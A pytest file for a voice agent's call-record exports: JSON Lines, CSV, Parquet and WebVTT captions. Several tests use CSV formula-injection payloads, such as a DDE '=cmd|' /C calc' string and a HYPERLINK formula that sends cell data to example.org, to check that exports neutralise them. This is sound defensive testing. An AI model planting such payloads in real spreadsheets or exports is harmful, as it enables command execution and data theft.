"""Calls as JSON, CSV, Parquet and captions: what is written is what was said, and harmless."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from agent.records.conversation import SpokenPart, SpokenTurn, conversation
from agent.records.events import JournalLine, RecordedEvent
from agent.records.exports import pages
from agent.records.exports import parquet as parquet_export
from agent.records.exports.captions import Caption, captions, webvtt
from agent.records.exports.columns import CALLS, TURNS, Columns
from agent.records.exports.formats import BOM, Csv, JsonLines
from agent.records.exports.parquet import Parquet
from tests.agent.records.exports.calls import NASTY, journal, whole_call


def table(call: pages.WholeCall, columns: Columns = CALLS, *, bom: bool = False) -> bytes:
    file = io.BytesIO()
    export = Csv(file, columns, bom=bom)
    export.add(call)
    export.close()
    return file.getvalue()


def read(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))


def said(text: str) -> pages.WholeCall:
    """Return a call in which a caller says one thing."""
    first = journal("a")[0]
    line = JournalLine(journal="a", line=1, kind="caller", at=1.0, fields={"text": text})
    return whole_call([first, line])


def test_a_line_of_json_holds_the_call_and_reads_back_the_same() -> None:
    """Half a character and NUL as well; and a line an event says whose it is."""
    call, file = whole_call(), io.BytesIO()
    JsonLines(file).add(call)
    text = file.getvalue().decode()
    assert text.count("\n") == 1
    read = json.loads(text)
    assert read["started"] == "2026-11-26T10:00:00.000Z"
    assert (read["id"], read["caller"], read["outcome"]) == ("a", "+15550000001", "caller hung up")
    lines = [
        {"kind": one.kind, **({} if one.at is None else {"at": one.at}), **one.fields}
        for one in call.events
    ]
    assert read["events"] == lines
    file = io.BytesIO()
    JsonLines(file, events=True).add(call)
    read_lines = [json.loads(line) for line in file.getvalue().splitlines()]
    assert read_lines == [{"record": "a", **line} for line in lines]


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_what_json_has_no_number_for_is_null(value: float) -> None:
    """The rest of the line is written."""
    file = io.BytesIO()
    line = JournalLine(journal="a", line=1, kind="tool", at=value, fields={"result": [value, 1]})
    JsonLines(file, events=True).add(whole_call([line]))
    assert json.loads(file.getvalue()) == {
        "record": "a", "kind": "tool", "at": None, "result": [None, 1]
    }  # fmt: skip


def test_what_is_nested_too_deep_costs_no_line() -> None:
    """A tool may have answered anything."""
    deep: list[Any] = []
    for _ in range(100_000):
        deep = [deep]
    file = io.BytesIO()
    JsonLines(file).add(
        whole_call([JournalLine(journal="a", line=0, kind="tool", at=1.0, fields={"result": deep})])
    )
    assert json.loads(file.getvalue())["events"][0]["kind"] == "tool"
    while deep:  # or Python takes it apart in as many calls
        deep = deep[0]


def test_a_row_a_call_says_who_when_how_slow_and_why_it_ended() -> None:
    """With what it cost; numbers of phones are left as they are."""
    (row,) = read(table(whole_call()))
    assert list(row) == list(CALLS.kinds)
    assert {name: value for name, value in row.items() if value} == {
        "id": "a", "call_id": "sinch-a", "started": "2026-11-26T10:00:00.000Z",
        "ended": "2026-11-26T10:00:08.000Z", "seconds": "8", "direction": "incoming",
        "caller": "+15550000001", "called": "+15550000002", "agent": "reception",
        "outcome": "caller hung up", "reason": "the caller hung up", "hung_up_by": "caller",
        "close_code": "1000", "platform_result": "ANSWERED", "platform_seconds": "9",
        "price": "0.02", "price_currency": "EUR", "turns": "2", "barge_ins": "1",
        "response_time": "0.75", "cost": "0.75", "cost_currency": "EUR", "recording": "a.flac",
    }  # fmt: skip


def test_a_row_a_turn_says_who_said_what_and_when() -> None:
    """In the order in which they began, whenever they were written."""
    rows = read(table(whole_call(), TURNS))
    assert [(row["turn"], row["who"], row["at"], row["until"]) for row in rows] == [
        ("1", "agent", "0.5", "1.25"),
        ("2", "caller", "2", "3.5"),
        ("2", "agent", "4.25", "6"),
        ("3", "caller", "5.25", "6"),
    ]
    assert rows[2]["text"] == "We are open. From"
    assert (rows[2]["cut_off"], rows[2]["unheard"]) == ("true", "nine.")
    assert rows[2]["response_time"] == "0.75"
    assert rows[2]["time"] == "2026-11-26T10:00:04.250Z"
    assert (rows[1]["confidence"], rows[3]["language"]) == ("0.5", "en")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
def test_no_spreadsheet_takes_what_a_caller_says_for_a_formula(sign: str) -> None:
    """An apostrophe says that it is text; in the middle of a text there is no need."""
    (row,) = read(table(said(f"{sign}cmd|' /C calc'!A0"), TURNS))
    assert row["text"] == f"'{sign}cmd|' /C calc'!A0"
    (row,) = read(table(said(f"I said {sign}1"), TURNS))
    assert row["text"] == f"I said {sign}1"


@pytest.mark.parametrize(
    ("caller", "cell"),
    [
        ("+15550000001", "+15550000001"),
        ("+1555;=1+1", "'+1555;'=1+1"),
        ("+1+1", "'+1+1"),
        ("+" + "1" * 16, "'+" + "1" * 16),
        ("+15550000001\n", "'+15550000001\n"),
        ("+١٢٣", "'+١٢٣"),
        ("user:=1", "user:=1"),
    ],
)
def test_numbers_of_phones_stay_usable_and_nothing_else_does(caller: str, cell: str) -> None:
    """A caller id comes from outside and may be anything."""
    (row,) = read(table(whole_call(journal("a", caller=caller))))
    assert row["caller"] == cell


@given(st.text() | st.text("=+-@;\t\r\n,\"'a1 "))
def test_any_text_is_one_cell_that_begins_harmlessly(text: str) -> None:
    """Whatever separators, quotes and newlines are in it."""
    (row,) = read(table(said(text), TURNS))
    cell = row["text"]
    plain = text.replace("\0", "\ufffd")
    assert cell.replace("'", "") == plain.replace("'", "")
    phone = cell[:1] == "+" and cell[1:].isascii() and cell[1:].isdigit()
    assert phone or cell[:1] not in {*"=+-@\t\r\n"}
    assert not re.search(r"[;\t\r\n][=+@-]", cell)


def test_no_separator_begins_a_formula_where_it_separates_cells() -> None:
    """Excel takes a semicolon for one in half of Europe, and knows no quotes then."""
    (row,) = read(table(said("Well;=cmd()\n@x;fine | ok; -1"), TURNS))
    assert row["text"] == "Well;'=cmd()\n'@x;fine | ok; -1"


def test_halves_of_characters_and_newlines_are_no_matter() -> None:
    """The former are replaced, the latter quoted; a mark for Excel is there if it is wanted."""
    plain, marked = table(whole_call(), TURNS), table(whole_call(), TURNS, bom=True)
    assert marked == BOM + plain
    assert read(marked)[1]["text"] == "'" + NASTY.replace("\0", "\ufffd").replace(
        "\ud83d", "\ufffd"
    )


def test_parquet_has_one_schema_whatever_is_in_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Types are fixed, moments are UTC, and groups are written as they are full."""
    monkeypatch.setattr(parquet_export, "GROUP_ROWS", 3)
    odd = (
        journal("a")[0],
        JournalLine(
            journal="a", line=1, kind="ended", at=1.0, fields={"close_code": "x", "reason": 7}
        ),
    )
    for calls in ([], [whole_call(list(odd))], [whole_call()] * 7):
        file = io.BytesIO()
        export = Parquet(file, CALLS)
        for call in calls:
            export.add(call)
        export.close()
        found = parquet.ParquetFile(file)
        assert found.schema_arrow.names == list(CALLS.kinds)
        types = [str(one) for one in found.schema_arrow.types]
        assert types[:5] == ["string", "string", "timestamp[ms, tz=UTC]", "timestamp[ms, tz=UTC]",
                             "double"]  # fmt: skip
        assert found.metadata.num_row_groups == -(-len(calls) // 3)
        rows = found.read().to_pylist()
        assert len(rows) == len(calls)
    assert rows[0]["started"] == datetime(2026, 11, 26, 10, tzinfo=UTC)
    assert (rows[0]["response_time"], rows[0]["close_code"]) == (0.75, 1000)


def test_parquet_holds_any_text() -> None:
    """Half a character is replaced; NUL is a character as any other."""
    file = io.BytesIO()
    export = Parquet(file, TURNS)
    export.add(whole_call())
    export.close()
    rows = parquet.ParquetFile(file).read().to_pylist()
    assert rows[1]["text"] == NASTY.replace("\ud83d", "\ufffd")
    assert rows[2]["cut_off"] is True


def test_captions_go_by_the_clock_of_the_recording() -> None:
    """Who, in order of their beginning, overlaps kept; markup and newlines are text."""
    assert webvtt(whole_call()) == (
        "WEBVTT\n\n"
        "NOTE call a, 2026-11-26T10:00:00.000Z, by the clock of the recording\n\n"
        "00:00:00.250 --> 00:00:01.000\n<v Agent>Hello.\n\n"
        "00:00:01.750 --> 00:00:03.250\n"
        '<v Caller>=HYPERLINK("http://example.org/?"&amp;A1) &lt;b&gt;&amp;\ufffd \ufffd\n\n'
        "00:00:04.000 --> 00:00:05.000\n<v Agent>We are open.\n\n"
        "00:00:05.000 --> 00:00:05.750\n<v Agent>From \u2014\n\n"
        "00:00:05.000 --> 00:00:05.750\n<v Caller>Thanks\n"
    )


def test_sentences_that_were_heard_have_their_own_times() -> None:
    """The rest, which was cut off, has what is left."""
    heard = (
        SpokenPart(text="We are open.", at=1.0, until=2.0),
        SpokenPart(text="Come in!", at=2.5, until=3.0),
    )
    turn = SpokenTurn(
        turn=1, who="agent", text="We are open. Come in! From", at=1.0, until=4.0,
        cut_off=True, sentences=heard,
    )  # fmt: skip
    assert captions([turn], 0.0) == [
        Caption(start=1.0, end=2.0, who="agent", text="We are open."),
        Caption(start=2.5, end=3.0, who="agent", text="Come in!"),
        Caption(start=3.0, end=4.0, who="agent", text="From \u2014"),
    ]


def test_long_turns_are_split_at_sentences_within_their_time() -> None:
    """Each has its share; one that never ends is split at words."""
    text = " ".join(f"This is the sentence number {n}, and it says something." for n in range(9))
    text += " and so on" * 60
    found = captions([SpokenTurn(turn=1, who="caller", text=text, at=10.0, until=70.0)], 0.0)
    assert " ".join(one.text for one in found) == text
    assert max(len(one.text) for one in found) <= 2 * 84
    assert found[0].text == "This is the sentence number 0, and it says something."
    assert found[0].start == 10.0
    assert found[-1].end == pytest.approx(70.0)
    for one, following in pairwise(found):
        assert one.end == pytest.approx(following.start)


def test_what_was_said_before_the_recording_is_left_out_and_told() -> None:
    """A consent sentence, for one; what goes on when it begins is cut."""
    lines = journal("a")
    lines[2] = JournalLine(
        journal="a", line=2, kind="recording", at=3.0, fields={"status": "started", "began": 3.0}
    )
    text = webvtt(whole_call(lines))
    assert "NOTE said before the recording began, and left out: 1" in text
    assert "00:00:00.000 --> 00:00:00.500\n<v Caller>" in text


TIMES = st.none() | st.floats(allow_nan=True) | st.integers() | st.text()


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["caller", "agent", "heard", "filler", "recording", "timing"]),
            st.none() | st.floats(),
            st.fixed_dictionaries({}, optional={
                "text": st.text() | st.integers(), "until": TIMES, "turn": TIMES,
                "cut_off": TIMES, "began": TIMES, "speech_end": TIMES, "heard": TIMES,
            }),
        ),
        max_size=8,
    )
)  # fmt: skip
def test_whatever_is_in_a_record_the_captions_are_such(
    lines: list[tuple[str, float | None, dict[str, Any]]],
) -> None:
    """Each ends behind its beginning, none begins before the one before, no line is blank in it."""
    first = journal("a")[0]
    made = [
        JournalLine(journal="a", line=n, kind=kind, at=at, fields=fields)
        for n, (kind, at, fields) in enumerate(lines)
    ]
    call = whole_call([first, *made])
    table(call), table(call, TURNS)
    head, *blocks = webvtt(call).removesuffix("\n").split("\n\n")
    assert head == "WEBVTT"
    cues = [block for block in blocks if not block.startswith("NOTE ")]
    starts = []
    for cue in cues:
        times, text = cue.split("\n")
        found = re.fullmatch(r"([\d:.]+) --> ([\d:.]+)", times)
        assert found is not None
        start, end = map(seconds, found.groups())
        assert start < end
        starts.append(start)
        assert re.fullmatch(r"<v (Caller|Agent)>[^<>\0]*", text)
    assert starts == sorted(starts)


def seconds(stamp: str) -> int:
    hours, minutes, rest = stamp.split(":")
    assert re.fullmatch(r"\d\d\.\d{3}", rest)
    return (int(hours) * 60 + int(minutes)) * 60_000 + int(rest.replace(".", ""))


def test_of_a_reply_without_an_end_there_is_what_was_heard() -> None:
    """Of a call in progress, or whose process has died."""
    events = [
        RecordedEvent(id=n, kind="heard", at=at, fields={"turn": 1, "text": text, "until": at + 1})
        for n, (at, text) in enumerate([(1.0, "We are open."), (2.0, "Come in!")])
    ]
    (turn,) = conversation(events)
    assert (turn.who, turn.text) == ("agent", "We are open. Come in!")
    assert (turn.at, turn.until, turn.cut_off) == (1.0, 3.0, True)


def test_of_a_caller_whom_nobody_has_answered_there_is_what_was_understood() -> None:
    """Where no line of the whole came to be written, for the process has died."""
    (turn,) = conversation(
        [
            RecordedEvent(
                id=1, kind="understood", at=1.0, fields={"text": "Are you open?", "until": 2.0}
            ),
            RecordedEvent(id=2, kind="ended", at=2.0, fields={"reason": "interrupted"}),
        ]
    )
    assert (turn.who, turn.text, turn.at, turn.until) == ("caller", "Are you open?", 1.0, 2.0)
